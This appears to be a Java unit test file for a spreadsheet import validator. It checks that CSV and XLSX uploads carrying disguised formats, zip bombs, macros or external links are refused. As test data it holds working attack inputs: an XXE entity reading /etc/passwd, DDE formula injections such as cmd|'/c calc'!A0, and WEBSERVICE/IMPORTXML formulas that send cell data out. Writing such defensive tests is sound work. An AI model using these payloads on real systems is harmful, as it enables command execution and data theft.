package org.plainview.server.sheets;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Map;
import org.assertj.core.api.AbstractThrowableAssert;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RefusalTest {
    @TempDir
    Path folder;

    private static AbstractThrowableAssert<?, ?> assertRefused(Path file, String name, String code) {
        return assertThatThrownBy(() -> SheetFiles.read(file, name))
                .isInstanceOfSatisfying(
                        RefusedFileException.class,
                        refused -> org.assertj.core.api.Assertions.assertThat(refused.code())
                                .isEqualTo(code));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%PDF-1.7 …",
                "<html><table>",
                "<!DOCTYPE html>",
                "{\"a\":1}",
                "PK\u0003\u0004",
                "GIF89a",
                "\u007fELF"
            })
    void aCsvFileThatIsSomethingElse(String content) {
        assertRefused(
                SheetFiles.text(folder, content, StandardCharsets.ISO_8859_1), "a.csv", "import-not-what-it-says");
    }

    @Test
    void binaryUnderTheNameOfText() {
        assertRefused(SheetFiles.bytes(folder, new byte[] {'a', ',', 0, 'b'}), "a.csv", "import-not-what-it-says");
        var late = ("name\n" + "x".repeat(100_000) + "\n").getBytes(StandardCharsets.UTF_8);
        late[90_000] = 0;
        assertRefused(SheetFiles.bytes(folder, late), "a.csv", "import-not-text");
    }

    @Test
    void aWorkbookThatIsNone() {
        assertRefused(SheetFiles.text(folder, "Name,Meaning\n"), "a.xlsx", "import-not-what-it-says");
        assertRefused(SheetFiles.zip(folder, Map.of("word/document.xml", "<a/>")), "a.xlsx", "import-not-a-workbook");
        assertRefused(SheetFiles.text(folder, "PK\u0003\u0004 no archive"), "a.xlsx", "import-workbook-broken");
        assertRefused(SheetFiles.text(folder, "a"), "a.xls", "import-other-spreadsheet");
        assertRefused(SheetFiles.text(folder, "a"), "a.exe", "import-unknown-format");
        assertRefused(SheetFiles.text(folder, ""), "a.csv", "import-empty");
    }

    @Test
    void zipBombs() {
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/media/a.bin", "0".repeat(40_000_000))),
                "a.xlsx",
                "import-zip-bomb");
        var sheet = SheetFiles.worksheet(
                "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + "a".repeat(40_000_000) + "</t></is></c></row>");
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/worksheets/sheet1.xml", sheet)), "a.xlsx", "import-zip-bomb");
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/media/a.bin", "PK\u0003\u0004…")), "a.xlsx", "import-zip-bomb");
    }

    @Test
    void tooManyParts() {
        var parts = new java.util.HashMap<String, String>();
        for (int i = 0; i < 2_100; i++) {
            parts.put("xl/media/" + i, "");
        }
        assertRefused(SheetFiles.packaged(folder, parts), "a.xlsx", "import-zip-bomb");
    }

    @Test
    void documentTypesInEveryPart() {
        var evil = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        for (var part : new String[] {
            "xl/worksheets/sheet1.xml",
            "xl/sharedStrings.xml",
            "xl/workbook.xml",
            "[Content_Types].xml",
            "xl/_rels/workbook.xml.rels",
            "docProps/core.xml"
        }) {
            assertRefused(SheetFiles.packaged(folder, Map.of(part, evil)), "a.xlsx", "import-document-type");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "WEBSERVICE(\"https://example.org/?\"&amp;A1)",
                "_xlfn.WEBSERVICE(A1)",
                "HYPERLINK(\"https://example.org\",\"x\")",
                "cmd|'/c calc'!A0",
                "[1]Sheet1!A1",
                "'\\\\server\\share\\[book.xlsx]Sheet1'!A1",
                "1+IMPORTXML(A1,B1)",
                "rtd(\"a\",\"b\")",
                "_xlfn.IMAGE(\"https://example.org/a.png\")"
            })
    void formulasThatCallOutOfWorkbooks(String formula) {
        var sheet = SheetFiles.worksheet("<row r=\"1\"><c r=\"B1\"><f>" + formula + "</f><v>1</v></c></row>");
        assertRefused(
                        SheetFiles.packaged(folder, Map.of("xl/worksheets/sheet1.xml", sheet)),
                        "a.xlsx",
                        "import-outward-formula")
                .hasMessageContaining("B1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SUM(A1:A3)",
                "A1&amp;\"https://example.org\"",
                "HYPERLINK(\"#Other!A1\",\"x\")",
                "IF(A1=\"a|b!\",1,2)",
                "Table1[[#This Row],[a]]*2",
                "RECALL(A1)"
            })
    void formulasThatStayInside(String formula) {
        var sheet =
                SheetFiles.worksheet("<row r=\"1\"><c r=\"B1\" t=\"str\"><f>" + formula + "</f><v>kept</v></c></row>");
        var file = SheetFiles.packaged(folder, Map.of("xl/worksheets/sheet1.xml", sheet));
        org.assertj.core.api.Assertions.assertThat(
                        SheetFiles.read(file, "a.xlsx").getFirst().cell(1))
                .isEqualTo("kept");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|'/c calc'!A0",
                "=WEBSERVICE(A1)",
                "=HYPERLINK(A1)",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "+IMPORTDATA(A1)",
                "=IMPORTXML(A1)",
                "=[book.xlsx]Sheet1!A1"
            })
    void formulasThatCallOutOfText(String formula) {
        var file = SheetFiles.text(folder, "Name,Meaning\nBus card,\"" + formula + "\"\n");
        assertRefused(file, "a.csv", "import-outward-formula").hasMessageContaining("B2");
    }

    @ParameterizedTest
    @ValueSource(strings = {"- a note", "+1 555 0100", "@district", "=1+1", "-", "- yes | no", "'=cmd|'/c calc'!A0"})
    void textThatOnlyBeginsLikeAFormula(String text) {
        assertThatCode(() -> SheetFiles.read(SheetFiles.text(folder, "Name\n\"" + text + "\"\n"), "a.csv"))
                .doesNotThrowAnyException();
    }

    @Test
    void partsThatReachOutside() {
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/externalLinks/externalLink1.xml", "<a/>")),
                "a.xlsx",
                "import-outward-part");
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/connections.xml", "<a/>")), "a.xlsx", "import-outward-part");
        assertRefused(SheetFiles.packaged(folder, Map.of("xl/vbaProject.bin", "x")), "a.xlsx", "import-macros");
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/embeddings/a.docx", "x")), "a.xlsx", "import-embedded-file");
        var rels =
                "<Relationships><Relationship Id=\"r\" Type=\"x/image\" TargetMode=\"External\" Target=\"https://example.org/a.png\"/></Relationships>";
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/worksheets/_rels/sheet1.xml.rels", rels)),
                "a.xlsx",
                "import-outward-part");
    }

    @Test
    void cellsBeyondEverySpreadsheet() {
        var sheet = SheetFiles.worksheet("<row r=\"1\"><c r=\"ZZZZZZZ1\"><v>1</v></c></row>");
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/worksheets/sheet1.xml", sheet)),
                "a.xlsx",
                "import-workbook-broken");
        var far = SheetFiles.worksheet("<row r=\"1\"><c r=\"XFD1\"><v>1</v></c></row>");
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/worksheets/sheet1.xml", far)),
                "a.xlsx",
                "import-too-many-columns");
        var deep = SheetFiles.worksheet("<row r=\"999999\"><c r=\"A999999\"><v>1</v></c></row>");
        assertRefused(
                SheetFiles.packaged(folder, Map.of("xl/worksheets/sheet1.xml", deep)),
                "a.xlsx",
                "import-too-many-rows");
    }

    @Test
    void tooMuch() {
        assertRefused(SheetFiles.text(folder, "a\n".repeat(200_001)), "a.csv", "import-too-many-rows");
        assertRefused(SheetFiles.text(folder, "a,".repeat(1_000) + "a\n"), "a.csv", "import-too-many-columns");
        assertRefused(SheetFiles.text(folder, "name\n" + "a".repeat(40_000) + "\n"), "a.csv", "import-cell-too-long");
        assertRefused(SheetFiles.bytes(folder, new byte[26 * 1024 * 1024]), "a.csv", "import-file-too-large");
        assertRefused(SheetFiles.text(folder, "name\n\"never closed\nx\n"), "a.csv", "import-csv-broken");
    }
}
